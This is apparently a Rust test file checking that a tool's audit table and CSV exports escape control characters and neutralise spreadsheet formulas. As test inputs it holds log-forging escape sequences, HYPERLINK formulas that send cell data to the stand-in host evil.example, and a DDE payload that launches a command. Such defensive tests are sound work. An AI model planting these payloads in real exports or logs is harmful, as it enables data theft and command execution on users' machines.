//! What commands print cannot be turned against its reader (issue 10):
//! text from outside (a sign-in address, a member's name) is shown with
//! its control characters escaped in tables, and no CSV cell can run as a
//! spreadsheet formula.

use crate::helpers::*;

/// A failed sign-in as `email`, which the audit log records as its actor.
fn failed_sign_in(db: &TestDb, email: &str) {
    let browser = Browser::new(&db.spawn_app());
    let r = browser.post("/login", &[("email", email), ("password", "wrong")]);
    assert_eq!(r.status, 401, "{}: {}", db.name(), r.body);
}

#[test]
fn a_forged_sign_in_address_prints_escaped_on_one_line_in_the_audit_table() {
    for db in backends() {
        let ctx = db.name();
        failed_sign_in(&db, "a\n2026-01-01 forged line\x1b[31m");
        let log = db.cli(&["audit"]).unwrap();
        assert!(
            !log.contains('\x1b'),
            "{ctx}: an escape sequence reached the terminal:\n{log}"
        );
        assert_eq!(
            log.lines().count(),
            2,
            "{ctx}: one header and one entry:\n{log}"
        );
        let entry = log.lines().nth(1).unwrap();
        assert!(
            entry.contains(r"a\n2026-01-01 forged line\u{1b}[31m")
                && entry.contains("login.failed"),
            "{ctx}: {log}"
        );
        assert!(
            !log.lines().any(|l| l.starts_with("2026-01-01 forged")),
            "{ctx}: {log}"
        );
        let json = db.cli(&["audit", "--format", "json"]).unwrap();
        let v: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(
            v[0]["actor"], "a\n2026-01-01 forged line\x1b[31m",
            "{ctx}: JSON keeps the text as stored"
        );
    }
}

#[test]
fn audit_csv_defuses_a_formula_in_a_sign_in_address() {
    for db in backends() {
        failed_sign_in(&db, "=hyperlink(\"http://evil.example/\",\"x\")@x.org");
        let csv = db.cli(&["audit", "--format", "csv"]).unwrap();
        let entry = csv.lines().nth(1).unwrap_or_default();
        assert!(
            entry.ends_with(
                ",\"'=hyperlink(\"\"http://evil.example/\"\",\"\"x\"\")@x.org\",login.failed,"
            ),
            "{}: {csv}",
            db.name()
        );
    }
}

#[test]
fn members_list_csv_defuses_formulas_in_names_but_keeps_numbers() {
    for db in backends() {
        let rows = [
            "m1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Click\"\")\",KE,africa,a@x.org,en,,",
            "m2,+1+cmd|' /C calc'!A0,KE,africa,b@x.org,en,,",
            "m3,-2+3,KE,africa,c@x.org,en,,",
            "m4,@SUM(1+1),KE,africa,d@x.org,en,,",
            "m5,-5,KE,africa,e@x.org,en,,",
            "m6,Org = Six,KE,africa,f@x.org,en,,",
        ];
        let file = db.file_arg("members.csv", &members_csv(&rows));
        db.cli(&["members", "import", &file]).unwrap();
        let csv = db.cli(&["members", "list", "--format", "csv"]).unwrap();
        let names: Vec<&str> = csv
            .lines()
            .skip(1)
            .map(|l| l.split(",KE,").next().unwrap_or_default())
            .collect();
        assert_eq!(
            names,
            [
                "m1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Click\"\")\"",
                "m2,'+1+cmd|' /C calc'!A0",
                "m3,'-2+3",
                "m4,'@SUM(1+1)",
                "m5,-5",
                "m6,Org = Six",
            ],
            "{}: {csv}",
            db.name()
        );
        let json = db.cli(&["members", "list", "--format", "json"]).unwrap();
        assert!(
            json.contains("\"name\": \"-2+3\""),
            "{}: JSON is untouched: {json}",
            db.name()
        );
    }
}
